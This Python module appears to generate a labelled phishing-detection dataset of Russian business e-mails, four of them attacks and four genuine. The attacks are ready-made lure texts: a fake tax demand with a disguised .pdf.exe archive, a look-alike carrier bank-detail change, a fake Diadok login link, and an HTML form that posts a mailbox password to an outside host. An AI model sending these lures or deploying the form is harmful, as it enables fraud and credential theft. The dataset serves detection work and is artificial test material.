"""Russian messages: 4 attacks, 4 genuine."""
import random

from common import *  # noqa: F401,F403

OLGA = (C.STAFF['ru_acc'][4], C.A('ru_acc'))
DMITRY = (C.STAFF['ru_mgr'][4], C.A('ru_mgr'))
KUZNETSOV = ('Андрей Кузнецов', 'a.kuznetsov@stroymarket-neva.ru')
VASILIEV = ('Игорь Васильев', 'igor.vasiliev.tk@yandex.ru')


# =========================================================== ATTACKS ======
def a_fns_zip():
    t = T('RU', 2026, 11, 10, 9, 17, 44)
    body = """Уважаемый налогоплательщик!

Межрайонная ИФНС России № 25 по Санкт-Петербургу в рамках камеральной налоговой проверки налоговой декларации по НДС за 3 квартал 2026 года направляет Вам требование о представлении пояснений (документов) в соответствии со статьями 88 и 93 Налогового кодекса Российской Федерации.

Пояснения необходимо представить в течение 5 рабочих дней со дня получения требования. Непредставление пояснений в установленный срок влечёт ответственность по статье 129.1 НК РФ и может стать основанием для приостановления операций по счетам организации.

Требование и перечень запрашиваемых документов во вложении. Архив защищён паролем: 1184

С уважением,
отдел камеральных проверок № 3
Межрайонная ИФНС России № 25 по Санкт-Петербургу
"""
    z = attach.make_zip([('Требование_12-47-1184_от_09.11.2026.pdf.exe', PLACEHOLDER)], password='1184',
                        rng=random.Random('zip-a37'), when=(2026, 11, 10, 8, 50, 0))
    b = multi('mixed', [multi('alternative', [text(body, 'windows-1251', 'quoted-printable'),
                                              htmlpart(html_outlook(body, 'windows-1251', lang='RU', font='Times New Roman'), 'windows-1251', 'quoted-printable')]),
                        zip_att(z, 'Требование_ФНС_12-47-1184.zip', style='ew', charset='windows-1251', note='ZipCrypto, password 1184; member Требование_12-47-1184_от_09.11.2026.pdf.exe (placeholder)')])
    return Mail('fns-trebovanie-arhiv-s-parolem', t=t, frm=('Межрайонная ИФНС России № 25 по г. Санкт-Петербургу', 'ifns25-spb@stroitel-kirov.ru'), to=OLGA,
                subject='Требование о представлении пояснений № 12-47/1184 от 09.11.2026', hcs='windows-1251', henc='B', body=b,
                profile=I.outlook_desktop, pkw=dict(domain='stroitel-kirov.ru', smtp_style='exim', client_name='WIN-K8D2M4QF1TB', client_ip='5.42.199.61',
                                                    server='mail.stroitel-kirov.ru', server_ip='91.215.152.78', lang='ru', zone='RU'),
                what='Fake Federal Tax Service (FNS) demand for explanations with a ZipCrypto archive containing a .pdf.exe; password in the body.',
                why='FNS sends requirements only through the accredited EDI operator (TKS), never by e-mail; sender is a compromised Kirov construction company\'s mail server; encrypted archive with an executable disguised as PDF; threat of account freeze.')


def a_carrier_lookalike():
    t = T('RU', 2026, 11, 27, 15, 3, 28)
    body = """Ольга, добрый день!

Сообщаю, что с 1 декабря у меня поменялся расчётный счёт — Банк «Санкт-Петербург» закрыл обслуживание ИП по моему тарифу. Оплату по счетам № 318 и № 324 (перевозки Шушары — Москва) прошу производить по новым реквизитам:

Получатель: ИП Васильев Игорь Александрович
ИНН %s
Р/с %s
Банк: %s
БИК %s
К/с %s

Старый счёт в «Санкт-Петербурге» закрывается, платежи туда вернутся. Письмо с печатью пришлю на следующей неделе, сейчас в рейсе.

С уважением,
Игорь Васильев
ТК «Северный путь»
""" % (C.VASIL_INN, C.VASIL_FAKE, C.TBANK[2], C.TBANK[0], C.TBANK[1])
    return Mail('perevozchik-novye-rekvizity-lookalike', t=t, frm=('Игорь Васильев', 'igor.vasilev.tk@yandex.ru'), to=OLGA,
                subject='Новые реквизиты для оплаты', hcs='utf-8', henc='B', body=text(body, 'utf-8', 'base64'),
                profile=I.yandex,
                what='Carrier bank-detail change from a look-alike Yandex mailbox (vasilev vs vasiliev), new sole-trader account at T-Bank for two open invoices.',
                why='Different mailbox from the one the carrier always uses (igor.vasiliev.tk@yandex.ru), account change by e-mail only with "stamped letter later", carrier "on the road"; genuine invoice 318 (business 39) explicitly says the details are unchanged.')


def a_diadok():
    t = T('RU', 2026, 12, 1, 10, 44, 7)
    url = 'https://diadoc-kontur.online/auth/login?doc=9f3a1c74&box=ooo-ekzampl-rus'
    body = """Здравствуйте!

В ваш ящик в Контур.Диадок поступил документ, требующий подписи:

Отправитель: ООО "ТД Химпоставка" (ИНН %s)
Документ: УПД N 2611-0447 от 27.11.2026
Сумма: 412 380,00 руб.
Срок подписания: до 03.12.2026

Чтобы просмотреть и подписать документ, войдите в Диадок:
%s

Если документ не будет подписан в срок, контрагент вправе считать его принятым без возражений.

С уважением,
команда Контур.Диадок

Это письмо отправлено автоматически, отвечать на него не нужно.
""" % (ids.ru_inn10('781132804'), url)
    h = html_simple(body.replace(url, '[Перейти к документу](%s)' % url), 'koi8-r')
    b = multi('alternative', [text(body, 'koi8-r', 'quoted-printable', label='koi8-r'), htmlpart(h, 'koi8-r', 'quoted-printable', label='koi8-r')])
    return Mail('diadok-dokument-na-podpis-phishing', t=t, frm=('Контур.Диадок', 'noreply@diadoc-kontur.online'), to=OLGA,
                subject='Диадок: поступил документ на подпись от ООО "ТД Химпоставка"', hcs='koi8-r', henc='B', body=b,
                profile=I.vps_php, pkw=dict(mailhost='mail.diadoc-kontur.online', vps_rdns='vm1839217.firstbyte.club', vps_ip='45.12.138.19',
                                            mailer='PHPMailer 6.5.0 (https://github.com/PHPMailer/PHPMailer)', zone='RU'),
                what='Russian EDI phishing: fake Kontur.Diadok "document awaiting signature" notice with a link to a look-alike Diadok login.',
                why='Domain diadoc-kontur.online instead of kontur.ru, PHPMailer on a cheap VPS; unknown counterparty; deemed-acceptance threat; the accountant announced (business 40) that Diadok is used only via bookmark.')


def a_akt_html():
    t = T('RU', 2026, 10, 21, 11, 52, 33)
    body = """Добрый день!

Направляем акт сверки взаимных расчётов за 9 месяцев 2026 года между ООО «Строймаркет-Нева» и ООО «Экзампл Рус». Просим проверить, подписать и вернуть скан до конца недели.

Документ во вложении (открывается в браузере, для просмотра потребуется авторизация почты).

С уважением,
бухгалтерия ООО «Строймаркет-Нева»
"""
    page = """<!DOCTYPE html>
<html lang="ru"><head><meta charset="utf-8"><title>Акт сверки - просмотр документа</title>
<style>body{font-family:Arial,sans-serif;background:#f5f5f5;margin:0}.w{width:360px;margin:90px auto;background:#fff;border-radius:12px;padding:32px;box-shadow:0 2px 10px rgba(0,0,0,.12)}
h2{font-size:20px;margin:0 0 8px}p{font-size:13px;color:#555}input{width:100%;box-sizing:border-box;padding:10px;margin:6px 0;border:1px solid #ccc;border-radius:8px;font-size:14px}
button{width:100%;padding:11px;background:#fc3f1d;color:#fff;border:0;border-radius:8px;font-size:15px}</style></head>
<body><div class="w">
<h2>Акт_сверки_9мес_2026.pdf</h2>
<p>Документ защищён. Для просмотра подтвердите адрес электронной почты получателя.</p>
<form method="post" action="https://docs-view.online/act/auth.php">
<input type="email" name="email" value="olga.morozova@examplegroup.eu">
<input type="password" name="pass" placeholder="Пароль от почты" required>
<button type="submit">Открыть документ</button>
</form>
<p style="font-size:11px;color:#999">Размер файла: 184 КБ &middot; Защищённый просмотр</p>
</div></body></html>
"""
    b = multi('mixed', [multi('alternative', [text(body, 'utf-8', 'base64'), htmlpart(html_simple(body), 'utf-8', 'base64')]),
                        att(page, 'text/html', 'Акт_сверки_9мес_2026.html', text_charset='utf-8', note='mailbox-password form, no script')])
    return Mail('akt-sverki-html-vlozhenie-mailru', t=t, frm=('Бухгалтерия Строймаркет-Нева', 'buh.stroymarket-neva@mail.ru'), to=OLGA,
                subject='Акт сверки за 9 месяцев 2026', hcs='utf-8', henc='B', body=b,
                profile=I.mailru, pkw=dict(client_ip='176.59.44.12'),
                what='"Reconciliation statement" lure from a free mail.ru address impersonating a customer\'s accounts department; the HTML attachment is a mailbox-password form.',
                why='Customer\'s accounts never write from mail.ru (genuine act comes from stroymarket-neva.ru as PDF, business 38); an HTML "document" that needs the mailbox password; form posts to docs-view.online.')


def attacks():
    return [a_fns_zip(), a_carrier_lookalike(), a_diadok(), a_akt_html()]


# =========================================================== BUSINESS =====
def b_yandex_id():
    t = T('RU', 2026, 11, 18, 9, 14, 52)
    body = """Здравствуйте, Дмитрий!

В ваш Яндекс ID dmitry.sokolov@example.com выполнен вход с нового устройства.

Когда: 18 ноября 2026 в 09:14 (МСК)
Устройство: Chrome, Windows
Место: Санкт-Петербург, Россия (примерно)

Если это были вы, ничего делать не нужно.
Если нет, смените пароль и проверьте настройки безопасности: https://id.yandex.ru/security

С заботой о безопасности,
Команда Яндекс ID
"""
    b = multi('alternative', [text(body, 'utf-8', 'quoted-printable'),
                              htmlpart(html_branded([('h', 'Вход с нового устройства')] + body.strip().split('\n\n')[1:5] + ['С заботой о безопасности,\nКоманда Яндекс ID'],
                                                    brand='#fc3f1d', logo_text='Яндекс ID', footer='© 2026 ООО «Яндекс»'), 'utf-8', 'quoted-printable')])
    return Mail('yandex-id-vhod-s-novogo-ustroystva', t=t, frm=('Яндекс ID', 'noreply@id.yandex.ru'), to=DMITRY,
                subject='Вход с нового устройства', hcs='utf-8', henc='B', body=b, profile=I.yandex_id,
                what='Genuine Yandex ID sign-in notification (new device) for the office manager\'s Yandex account registered with his work address.',
                why='Sent from Yandex\'s own forward*.mail.yandex.net servers, sender id.yandex.ru, informational, single link to id.yandex.ru.')


def b_akt_sverki():
    t = T('RU', 2026, 10, 14, 14, 26, 8)
    body = """Ольга, добрый день!

Направляю акт сверки взаимных расчётов за 9 месяцев 2026 г. По нашим данным на 30.09.2026 наша задолженность перед ООО «Экзампл Рус» составляет 1 284 600,00 руб. (УПД № 2609-118 и № 2609-131), оплата по графику до 20.10.2026.

Акт также отправлен через Диадок, подпишите, пожалуйста, там. PDF прикладываю для удобства.

С уважением,
Андрей Кузнецов
Финансовый менеджер
ООО «Строймаркет-Нева»
ИНН %s / КПП %s
тел. +7 812 603-41-18
""" % (C.STROY_INN, C.STROY_KPP)
    doc = pdf([('h', 'АКТ СВЕРКИ взаимных расчётов'), ('p', 'за период: 01.01.2026 - 30.09.2026\nмежду ООО «Строймаркет-Нева» (ИНН %s) и ООО «Экзампл Рус» (ИНН %s)' % (C.STROY_INN, C.EXG_RU_INN)),
               ('rule',), ('row', [(50, 'Дата'), (130, 'Документ'), (360, 'Дебет'), (450, 'Кредит')]),
               ('row', [(50, '01.01.2026'), (130, 'Сальдо начальное'), (360, ''), (450, '0,00')]),
               ('row', [(50, '28.09.2026'), (130, 'УПД № 2609-118'), (360, ''), (450, '742 300,00')]),
               ('row', [(50, '30.09.2026'), (130, 'УПД № 2609-131'), (360, ''), (450, '542 300,00')]), ('rule',),
               ('row', [(50, '30.09.2026'), (130, 'Сальдо конечное'), (360, ''), (450, '1 284 600,00')]), ('gap', 20),
               ('p', 'От ООО «Строймаркет-Нева»                     От ООО «Экзампл Рус»\nГлавный бухгалтер ____________               Главный бухгалтер ____________')],
              'Акт сверки', 'Кузнецов А.', '1С:Предприятие 8.3', '1С:Предприятие 8.3', t)
    b = multi('mixed', [multi('alternative', [text(body, 'windows-1251', 'quoted-printable'),
                                              htmlpart(html_outlook(body, 'windows-1251', lang='RU'), 'windows-1251', 'quoted-printable')]),
                        pdf_att(doc, 'Акт_сверки_9мес_2026_Строймаркет-Нева.pdf', style='ew', charset='windows-1251')])
    return Mail('stroymarket-akt-sverki-pdf', t=t, frm=KUZNETSOV, to=OLGA, subject='Акт сверки за 9 месяцев 2026 г.', hcs='windows-1251', henc='B', body=b,
                profile=I.yandex, pkw=dict(webmail=False, user_agent='Microsoft Outlook 16.0', outlook_domain='stroymarket-neva.ru'),
                what='Genuine reconciliation statement (акт сверки) from a customer\'s finance manager, PDF attached, also sent via Diadok.',
                why='Customer\'s own domain on Yandex 360 for business, sent with Outlook; PDF attachment, refers to EDI (Diadok) for signing; figures consistent.',
                pair=(['akt-sverki-html-vlozhenie-mailru'], 'Same "акт сверки" topic and customer; corporate domain and PDF instead of mail.ru and an HTML password form.'))


def b_carrier_invoice():
    t = T('RU', 2026, 11, 20, 18, 41, 15)
    body = """Ольга, здравствуйте.

Высылаю счёт N 318 от 20.11.2026 за рейс Шушары - Москва (склад Подольск) 17-18.11, сумма 68 000 руб., НДС не облагается (УСН).

Также напоминаю, что по счетам N 297 и N 304 за октябрь (всего 131 500 руб.) оплата так и не пришла, хотя срок был 10 дней. Если до пятницы денег не будет, следующую машину под ваш груз на 30.11 я поставить не смогу - солярку мне тоже в долг не дают.

Реквизиты прежние: Банк "Санкт-Петербург", р/с %s.

С уважением,
Игорь Васильев
ИП Васильев И.А., ТК "Северный путь"
+7 921 447-18-63
""" % C.VASIL_ACC
    doc = pdf([('h', 'Счёт на оплату № 318 от 20.11.2026'), ('p', 'Поставщик: ИП Васильев Игорь Александрович, ИНН %s' % C.VASIL_INN),
               ('p', 'Банк получателя: %s, БИК %s, к/с %s\nр/с %s' % (C.BSPB[2], C.BSPB[0], C.BSPB[1], C.VASIL_ACC)),
               ('p', 'Покупатель: ООО «Экзампл Рус», ИНН %s, КПП %s' % (C.EXG_RU_INN, C.EXG_RU_KPP)), ('rule',),
               ('row', [(50, 'Транспортные услуги: Шушары - Подольск, 17-18.11.2026, 20 т'), (450, '68 000,00')]), ('rule',),
               ('row', [(50, 'Итого, без НДС (УСН)'), (450, '68 000,00')])],
              'Счет 318', 'Vasiliev', 'The Bat! / Microsoft Excel', 'Microsoft Excel', t)
    b = multi('mixed', [text(body, 'koi8-r', 'quoted-printable', label='koi8-r'), pdf_att(doc, 'schet_318.pdf')])
    return Mail('perevozchik-schet-i-napominanie', t=t, frm=VASILIEV, to=OLGA, subject='Счёт 318 и долг за октябрь', hcs='koi8-r', henc='B', body=b,
                profile=I.yandex, pkw=dict(webmail=False, user_agent='The Bat! (v11.2.1) Professional', bat=True),
                what='Genuine invoice plus blunt payment reminder from the small carrier (sole trader on yandex.ru, The Bat!), threatening not to provide the next truck.',
                why='The carrier\'s long-standing Yandex address, usual bank details repeated unchanged, plain PDF invoice; the threat is an ordinary supply stop.',
                pair=(['perevozchik-novye-rekvizity-lookalike'], 'Same carrier and invoice number the look-alike uses; genuine mailbox, account explicitly unchanged.'))


def b_edo_notice():
    t = T('RU', 2026, 11, 26, 12, 8, 40)
    body = """Коллеги, добрый день!

С 1 декабря все первичные документы от поставщиков и покупателей (УПД, акты, акты сверки) мы принимаем и подписываем только в Контур.Диадок. Бумажные оригиналы и сканы по почте больше не нужны.

Несколько правил безопасности:
- входите в Диадок только через закладку https://diadoc.kontur.ru, а не по ссылкам из писем;
- настоящие уведомления Диадока приходят с адресов на домене kontur.ru;
- "требования из налоговой" в архивах с паролем и "акты сверки" в виде HTML-файлов не открывайте - ФНС присылает требования только через оператора ЭДО;
- при сомнениях пересылайте письмо Лене Хоффманн в ИТ (lena.hoffmann@example.com).

Спасибо!
Ольга Морозова
главный бухгалтер ООО "Экзампл Рус"
"""
    b = multi('alternative', [text(body, 'koi8-r', 'quoted-printable'),
                              htmlpart(html_outlook(body, 'koi8-r', lang='RU'), 'koi8-r', 'quoted-printable')])
    return Mail('vnutrennee-edo-diadok-pravila', t=t, frm=C.P('ru_acc'), to=('Все СПб', 'vse-spb@example.com'), rcpt=DMITRY[1],
                subject='С 1 декабря первичка только через Диадок', hcs='koi8-r', henc='B', body=b,
                profile=I.exchange_internal, pkw=dict(host='EXCH02', lang='ru-RU', client_ip='10.90.0.23'),
                what='Genuine internal notice from the Russian chief accountant: primary documents only via Diadok from 1 December, with security rules.',
                why='Internal Exchange -> mail-int01 path; links only to the genuine diadoc.kontur.ru; no request.',
                pair=(['diadok-dokument-na-podpis-phishing', 'fns-trebovanie-arhiv-s-parolem'], 'Same EDI/tax topics; internal, informational, warns against exactly these lures.'))


def business():
    return [b_yandex_id(), b_akt_sverki(), b_carrier_invoice(), b_edo_notice()]
